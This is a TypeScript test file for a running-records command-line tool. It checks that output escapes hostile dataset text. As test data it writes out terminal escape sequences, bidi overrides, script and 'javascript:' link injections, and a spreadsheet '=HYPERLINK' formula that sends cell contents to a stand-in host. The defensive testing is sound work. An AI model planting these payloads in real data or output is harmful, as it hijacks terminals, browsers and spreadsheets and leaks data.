/** A dataset by someone who means harm: every text in it tries to steer a terminal, a page or a spreadsheet. */
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import type { Data } from '../../src/compile/load.ts';
import { fixture } from '../fixtures/data.ts';
import { fixtureFolder } from '../fixtures/dataset.ts';
import { type Setting, stadion } from '../fixtures/run.ts';
import { nestingOf } from '../fixtures/xml.ts';

/** Clears the screen, sets the title, turns the text around, begins a line and a cell, runs a script and a formula. */
const HOSTILE =
  '\u001b[2J\u001b]0;owned\u0007\u009b31m\u202egnp.exe\u2066\nowned\r\u2028\u0085\t<script>alert(1)</script><!-- ' +
  '[a](javascript:alert(1)) ![b](https://a.example) `c` | "\',;&lt;\u0000\uD800';

/** Keys whose values are words for people. */
const WORDS = new Set([
  ...['name', 'title', 'publisher', 'note', 'reason', 'venue', 'city', 'competition', 'text', 'organiser', 'restart'],
  ...['claimed', 'actual'],
]);

/** The fixture with words made hostile. */
function hostile(made: (text: string) => string): Data {
  const spoilt = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return WORDS.has(key) ? made(value) : value;
    if (Array.isArray(value)) return value.map((each) => spoilt(each, key));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([inner, each]) => [inner, spoilt(each, inner)]));
  };
  return spoilt(fixture(), '') as Data;
}

const dataset = fixtureFolder(hostile((text) => text + HOSTILE));
const formulas = fixtureFolder(hostile((text) => `=HYPERLINK("https://a.example/?"&A1,"${text}")`));

const LINES = [
  'athlete kelvin-kiptum --claims --explain',
  'athlete gervais-hakizimana --claims',
  'athlete lewis',
  'athlete nobody-at-all',
  'age gervais-hakizimana --explain',
  'records',
  'records marathon --sex M --explain',
  'records marathon --history',
  'timeline kelvin-kiptum',
  'timeline marathon',
  'marks marathon --explain',
  'marks --person kelvin-kiptum',
  'event chicago-marathon-2023',
  'event chicago-marathon',
  'compare kelvin-kiptum --vs eliud-kipchoge',
  'search ki',
  'search marathon',
  'on 02-11',
  'source nation-2024-02-12',
  'data info',
  'gap 2018-09-16 2023-10-08 --record marathon --sex M',
];

const ask = (line: string, setting: Setting = {}) =>
  stadion(line, { dataset, today: '2024-11-20', env: { NO_COLOR: '1', LANG: 'en_GB.UTF-8' }, ...setting });

/** What moves a cursor, begins an escape sequence or turns text around; a line end of ours is no part of it. */
const STEERING = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u;
const steered = (text: string, own: RegExp) => text.replaceAll(own, '').match(STEERING)?.[0];

afterEach(() => {
  expect(Object.keys(Object.prototype)).toEqual([]);
});

describe('on a terminal', () => {
  it.each(LINES)('stadion %s', async (line) => {
    for (const width of [40, 80, 140]) {
      const { code, out, err } = await ask(line, { terminal: true, width });
      expect(code).toBeLessThan(4);
      expect(steered(out + err, /\n/g)).toBeUndefined();
    }
  });

  it.each(LINES)('in colour only with colours of its own: stadion %s', async (line) => {
    const { out } = await ask(`${line} --color always`, { terminal: true });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: escape sequences begin with one
    expect(steered(out, /\u001b\[[0-9;]*m|\n/g)).toBeUndefined();
  });

  it.each(['json', 'ndjson', 'csv', 'tsv', 'md'])('as %s', async (format) => {
    for (const line of LINES.filter((each) => !each.includes('--explain'))) {
      const { out, err } = await ask(`${line} -o ${format}`, { terminal: true });
      expect(steered(out + err, /[\n\t]/g)).toBeUndefined();
    }
  });

  it('in what a shell is offered', async () => {
    for (const line of ['athlete k', 'source n', 'event c', 'records m']) {
      const { out } = await ask(`__complete bash ${line}`);
      expect(steered(out, /[\n\t]/g)).toBeUndefined();
    }
  });
});

describe('through a pipe', () => {
  it.each(LINES)('text stays a record a line: stadion %s', async (line) => {
    const { out, err } = await ask(line);
    expect(steered(out + err, /[\n\t]/g)).toBeUndefined();
    expect(out).not.toMatch(/^owned/m);
  });

  it('JSON keeps every character, escaped as JSON has it', async () => {
    const { out } = await ask('athlete kelvin-kiptum --json');
    const { person } = JSON.parse(out).data;
    expect(person.name).toBe(`Kelvin Kiptum${HOSTILE}`);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(out.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f]/);
  });

  it('NDJSON stays a value a line', async () => {
    const { out } = await ask('marks marathon -o ndjson');
    const lines = out.split('\n').slice(0, -1);
    expect(lines.length).toBeGreaterThan(1);
    for (const each of lines) expect(JSON.parse(each).person.name).toContain(HOSTILE);
  });

  it.each([
    ['csv', ','],
    ['tsv', '\t'],
  ])('%s stays a row a mark', async (format, delimiter) => {
    const { out } = await ask(`marks marathon -o ${format}`);
    const rows = parse(out, { delimiter, columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) expect(row['person.name']).toContain(HOSTILE.replace('\uD800', '\uFFFD'));
  });
});

describe('in a page', () => {
  it.each(['records marathon --history -o svg', 'timeline kelvin-kiptum -o svg'])('%s', async (line) => {
    const { code, out } = await ask(line);
    expect(code).toBe(0);
    expect(nestingOf(out.replace(/^<\?xml[^>]*\?>\s*/, ''))).toBe(0);
    expect(out).not.toMatch(/<script|<!--|javascript:[^<]*"/);
  });

  it.each(LINES)('Markdown has no markup of others: stadion %s -o md', async (line) => {
    const { out } = await ask(`${line} -o md`);
    const bare = out.replaceAll(/\\[^\w\s]/g, '');
    expect(bare).not.toMatch(/<script|<!--|\]\(javascript|!\[/);
    expect(steered(out, /\n/g)).toBeUndefined();
  });
});

describe('in a spreadsheet', () => {
  const lines = ['marks marathon', 'records', 'event chicago-marathon-2023', 'search ki', 'athlete kelvin-kiptum'];

  it.each(lines)('--spreadsheet makes words of formulas: stadion %s', async (line) => {
    for (const format of ['csv', 'tsv']) {
      const { out } = await ask(`${line} -o ${format} --spreadsheet`, { dataset: formulas });
      const delimiter = format === 'csv' ? ',' : '\t';
      const rows = parse(out, { delimiter, bom: true }) as string[][];
      const cells = rows.flat().filter((each) => /^[=+\-@\t\r]/.test(each) && Number.isNaN(Number(each)));
      expect(cells).toEqual([]);
      expect(out).toContain("'=HYPERLINK");
    }
  });

  it('without it values are what they are', async () => {
    const { out } = await ask('marks marathon -o csv', { dataset: formulas });
    const [row] = parse(out, { columns: true }) as Record<string, string>[];
    expect(row?.['person.name']).toMatch(/^=HYPERLINK/);
  });
});
